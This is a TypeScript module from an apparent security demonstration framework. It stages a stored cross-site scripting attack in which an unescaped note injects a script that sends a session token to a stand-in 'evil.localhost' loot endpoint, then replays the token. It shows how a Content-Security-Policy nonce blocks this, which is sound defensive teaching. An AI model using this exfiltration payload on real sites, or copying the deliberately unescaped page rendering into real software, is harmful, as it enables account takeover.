import { csp } from '../http/csp.ts'
import { securityHeaders } from '../http/security-headers.ts'
import type { Route } from './application.ts'
import type { Attack, Defence, Outcome } from './attack.ts'
import type { Stage } from './stage.ts'
import { standards } from './standards.ts'
import { outcome } from './steps.ts'

const policy: Defence = {
  id: 'script-policy',
  title: 'A policy for scripts',
  on: 'securityHeaders(): a Content-Security-Policy with a nonce; what somebody has written into the page does not run',
  off: 'No policy: every script in the page runs',
  rule: 'A script without this answer’s nonce is not run, and the page sends nothing to other hosts.',
  code: 'src/http/security-headers.ts',
  standard: standards.csp,
}

export interface Theft {
  readonly id: string
  readonly title: string
  readonly aim: string
  readonly present: 'cookie' | 'token'
  readonly otherwise: string
  /** Where the page puts `token`: a statement of JavaScript. */
  readonly keep: string
  /** How the injected script finds it: an expression, or a promise of one. */
  readonly find: string
  /** Besides the policy. */
  readonly defence?: Defence
}

/** A page with a hole: somebody's note is shown as it was written, script and all. The script sends what it finds to the attacker. */
export function tokenTheft(theft: Theft): Attack {
  const { id, title, aim, present, otherwise, defence } = theft
  return {
    id,
    title,
    aim,
    presents: [present],
    otherwise,
    defences: defence === undefined ? [policy] : [policy, defence],
    inBrowser: true,
    others: { not: 'where a page keeps its token is for the page to decide, whoever made it' },
    carryOut: (stage) => steal(stage, theft),
  }
}

async function steal(stage: Stage, { keep, find, defence }: Theft): Promise<Outcome> {
  let loot = ''
  const port = await stage.serve('attacker', (request, response) => {
    const { pathname, searchParams } = new URL(request.url ?? '/', 'http://attacker')
    if (pathname === '/loot') loot = searchParams.get('found') ?? ''
    response.writeHead(204, { 'Access-Control-Allow-Origin': '*' }).end()
  })
  const inScript = defence === undefined || !stage.has(defence.id)
  const note = `<script>window.searched = (async () => {
  const found = await ${find}
  if (found) await fetch('http://evil.localhost:${port}/loot?found=' + encodeURIComponent(found))
})()</script>`
  const target = await stage.open({
    present: 'both',
    route: pageWith({ note, keep, inScript, hasPolicy: stage.has(policy.id) }),
  })
  const { victim, attacker } = await stage.browsers()
  const tab = await victim.newPage()
  stage.tell('attacker', 'has left a note on the page, with a script in it')
  await tab.goto(`${target.origin}/page`)
  await tab.evaluate(untilSearched)
  if (loot === '') return outcome(false, 'The script has found or sent nothing.')
  stage.tell('attacker', 'has got what the script found')
  const own = await attacker.newPage()
  await own.goto(`${target.origin}/`)
  const { status, user } = await own.evaluate(showToken, loot)
  return outcome(user === 'ada', `In the attacker’s browser GET /me: ${status}${user === null ? '' : ` as ${user}`}.`)
}

/** In the attacker's browser. */
async function showToken(token: string): Promise<{ readonly status: number; readonly user: string | null }> {
  const answer = await fetch('/me', { headers: { authorization: `Bearer ${token}` } })
  const { user = null } = (await answer.json()) as { readonly user?: string }
  return { status: answer.status, user }
}

/** In the browser: until the page has signed in, and the script in the note, if it runs, has done what it can. */
async function untilSearched(): Promise<void> {
  const page = globalThis as unknown as Readonly<Record<'signedIn' | 'searched', Promise<unknown> | undefined>>
  if (page.signedIn === undefined) throw new Error('the own script of the page did not run')
  await page.signedIn
  await page.searched
}

interface PageParts {
  readonly note: string
  readonly keep: string
  /** The page takes a token and keeps it; otherwise the answer sets the cookies of a session. */
  readonly inScript: boolean
  readonly hasPolicy: boolean
}

/** The application's page: signs in, keeps what it got, and asks who it is. */
function pageWith({ note, keep, inScript, hasPolicy }: PageParts): Route {
  const secure = securityHeaders({ csp: { 'script-src': [csp.nonce], 'connect-src': [csp.self] } })
  return async ({ request, response, url, html, json }) => {
    if (url.pathname === '/sign-in') {
      json(200, await request.session.login({ user: 'ada', present: inScript ? 'token' : 'cookie' }))
      return true
    }
    if (url.pathname !== '/page') return false
    const { headers, nonce } = secure()
    if (hasPolicy) for (const [name, value] of Object.entries(headers)) response.setHeader(name, value)
    html(`<!doctype html><title>Notes</title><script nonce="${nonce}">
window.signedIn = (async () => {
  const answer = await fetch('/sign-in', { method: 'POST' })
  if (!answer.ok) throw new Error('the page could not sign in')
  const token = (await answer.json()).access_token
  ${inScript ? keep : ''}
})()
</script><h1>Notes</h1><p>${note}</p>`)
    return true
  }
}
